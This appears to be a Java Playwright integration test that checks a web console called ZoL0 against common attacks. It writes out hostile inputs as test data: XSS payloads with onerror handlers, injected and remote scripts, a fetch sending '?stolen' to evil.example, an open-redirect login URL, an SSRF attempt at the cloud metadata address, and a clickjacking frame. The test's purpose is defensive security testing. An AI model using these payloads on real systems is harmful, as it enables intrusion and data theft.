package io.zol0.ui;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What attackers would try on the console of the packaged jar, in a real browser. */
class HardeningIT {
    private static final String CHOSEN = "correct horse battery";
    private static final String MARKUP = "/<img/src=x/onerror=window.hacked=1>";

    @TempDir
    Path home;

    @Test
    void attacks_come_to_nothing() throws Exception {
        HttpServer stranger = stranger();
        try (RunningJar zol0 = RunningJar.start(home, "off");
                ConsoleBrowser browser = ConsoleBrowser.start()) {
            nobody_is_sent_to_another_site_by_the_login(zol0, browser);
            what_was_injected_into_a_page_does_not_run(zol0, browser);
            a_call_that_looks_like_markup_is_shown_as_text(zol0, browser, stranger);
            whatever_others_can_write_is_shown_as_text(zol0, browser);
            no_other_site_shows_the_console_in_a_frame(zol0, browser, stranger);
        } finally {
            stranger.stop(0);
        }
    }

    private void nobody_is_sent_to_another_site_by_the_login(RunningJar zol0, ConsoleBrowser browser) {
        try (Tab tab = browser.open(zol0, 1440, ColorScheme.LIGHT)) {
            tab.go("login?continue=https://evil.example/&redirect=//evil.example&url=https://evil.example");
            tab.page.locator("input[name=username]").fill("admin");
            tab.page.locator("input[name=password]").fill(zol0.firstPassword());
            tab.page.locator("input[name=password]").press("Enter");
            assertThat(tab.page.getByText("Choose your own password")).isVisible();
            assertThat(tab.page.url()).startsWith(zol0.console());
            tab.chooseFirstPassword(CHOSEN);
            assertThat(tab.heading("Overview")).isVisible();
            tab.requireClean();
        }
    }

    private void what_was_injected_into_a_page_does_not_run(RunningJar zol0, ConsoleBrowser browser) {
        try (Tab tab = browser.open(zol0, 1440, ColorScheme.LIGHT)) {
            tab.go("login");
            assertThat(tab.page.locator("input[name=username]")).isVisible();
            tab.page.evaluate("""
                window.refused = [];
                document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective));
                const script = document.createElement('script');
                script.textContent = 'window.hacked = 1';
                document.body.append(script);
                const far = document.createElement('script');
                far.src = 'https://evil.example/x.js';
                document.body.append(far);
                const holder = document.createElement('div');
                holder.innerHTML = '<img src="data:," onerror="window.hacked = 1">';
                document.body.append(holder);
                fetch('https://evil.example/?stolen').catch(() => {});
                """);
            tab.page.waitForFunction("window.refused.length >= 4");
            assertThat(tab.page.evaluate("window.hacked === undefined")).isEqualTo(true);
            @SuppressWarnings("unchecked")
            List<String> refused = (List<String>) tab.page.evaluate("window.refused");
            assertThat(refused).contains("script-src-elem", "script-src-attr", "connect-src");
        }
    }

    private void a_call_that_looks_like_markup_is_shown_as_text(
            RunningJar zol0, ConsoleBrowser browser, HttpServer stranger) throws Exception {
        try (Tab tab = browser.open(zol0, 1440, ColorScheme.LIGHT)) {
            tab.login("admin", CHOSEN);
            tab.go("settings/upstreams/new");
            tab.page.getByLabel("Name").fill("mine");
            tab.page.getByLabel("Base URL").fill("http://169.254.169.254/latest");
            tab.page.getByLabel("Base URL").press("Tab");
            Locator wrong = tab.page.locator("vaadin-text-field[invalid] [slot=error-message]");
            assertThat(wrong).containsText("which ZoL0 never calls");
            tab.page
                    .getByLabel("Base URL")
                    .fill("http://127.0.0.1:" + stranger.getAddress().getPort());
            tab.press(tab.button("Add the upstream"), () -> assertThat(wrong).hasCount(0));
            assertThat(tab.heading("mine")).isVisible();
            call(zol0, "/mine" + MARKUP + "?q=" + MARKUP);
            assertThat(tab.page.getByText("First call seen")).containsText("onerror");
            tab.go("endpoints");
            assertThat(tab.page.getByText("onerror").first()).isVisible();
            assertThat(tab.page.evaluate("window.hacked === undefined")).isEqualTo(true);
            tab.requireClean();
        }
    }

    /** What is no name is refused by the rules of names, so markup comes in by what is free to be anything. */
    private void whatever_others_can_write_is_shown_as_text(RunningJar zol0, ConsoleBrowser browser) throws Exception {
        String markup = "<img src=x onerror=window.hacked=1>";
        String escaped = "%3Cimg%20src=x%20onerror=window.hacked=1%3E";
        call(zol0, "/mine/fails/" + MARKUP + "?q=" + MARKUP, "X-ZoL0-Caller: " + markup);
        call(zol0, "/mine/fails/" + MARKUP + "?q=" + MARKUP, "User-Agent: " + markup);
        try (BrowserContext odd = browser.browser().newContext(new Browser.NewContextOptions().setUserAgent(markup));
                Tab tab = browser.open(zol0, 1440, ColorScheme.LIGHT)) {
            Page login = odd.newPage();
            for (String name : List.of(markup, "admin")) {
                login.navigate(zol0.console() + "/login");
                login.locator("input[name=username]").fill(name);
                login.locator("input[name=password]").fill(CHOSEN);
                login.locator("input[name=password]").press("Enter");
            }
            assertThat(login.getByRole(AriaRole.HEADING, new Page.GetByRoleOptions().setName("Overview")))
                    .isVisible();

            tab.login("admin", CHOSEN);
            assertThat(tab.page.getByText("onerror").first()).isVisible();
            requireText(tab);
            tab.page.getByText("onerror").first().click();
            assertThat(tab.page.getByText("Failed and refused calls").first()).isVisible();
            assertThat(tab.page.getByText("onerror").first()).isVisible();
            requireText(tab);
            tab.go("account");
            assertThat(tab.page.getByText(markup)).isVisible();
            requireText(tab);
            tab.go("audit");
            // What is typed for a name and is none is not written down: it may be a password.
            assertThat(tab.page.getByText("Sign-in failed").first()).isVisible();
            requireText(tab);
            tab.go("audit?subject=" + escaped + "&who=" + escaped);
            assertThat(tab.page.getByText("Nothing matches the filter")).isVisible();
            requireText(tab);
            tab.go("endpoints?filter=" + escaped);
            assertThat(tab.page.getByLabel("Filter")).hasValue(markup);
            requireText(tab);
            tab.go("nowhere/" + escaped);
            assertThat(tab.page.getByText("There is no page at")).containsText("onerror");
            requireText(tab);
            tab.requireClean();
        }
    }

    private static void requireText(Tab tab) {
        assertThat(tab.page.locator("img[src=x]")).hasCount(0);
        assertThat(tab.page.evaluate("window.hacked === undefined")).isEqualTo(true);
    }

    private void no_other_site_shows_the_console_in_a_frame(
            RunningJar zol0, ConsoleBrowser browser, HttpServer stranger) {
        try (Tab tab = browser.open(zol0, 1440, ColorScheme.LIGHT)) {
            tab.page.navigate("http://localhost:" + stranger.getAddress().getPort() + "/frame?" + zol0.console());
            Frame framed = tab.page.frames().get(1);
            framed.waitForLoadState();
            assertThat(framed.url()).startsWith("chrome-error:");
            assertThat(framed.locator("input").count()).isZero();
        }
    }

    /** A provider, and a site that shows what its query names in a frame. */
    private static HttpServer stranger() throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            String query = exchange.getRequestURI().getQuery();
            boolean framing = exchange.getRequestURI().getPath().equals("/frame");
            byte[] body =
                    (framing ? "<iframe src='" + query + "/login'></iframe>" : "{}").getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", framing ? "text/html" : "application/json");
            exchange.sendResponseHeaders(
                    exchange.getRequestURI().getPath().startsWith("/fails") ? 500 : 200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        return server;
    }

    /** By a bare socket: a client that knows better would not say this. */
    private static void call(RunningJar zol0, String target, String... fields) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), zol0.gatewayPort())) {
            socket.getOutputStream()
                    .write(("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                                    + Stream.of(fields)
                                            .map(field -> field + "\r\n")
                                            .collect(Collectors.joining())
                                    + "\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            byte[] answer = socket.getInputStream().readAllBytes();
            assertThat(new String(answer, StandardCharsets.ISO_8859_1)).startsWith("HTTP/1.1 ");
        }
    }
}
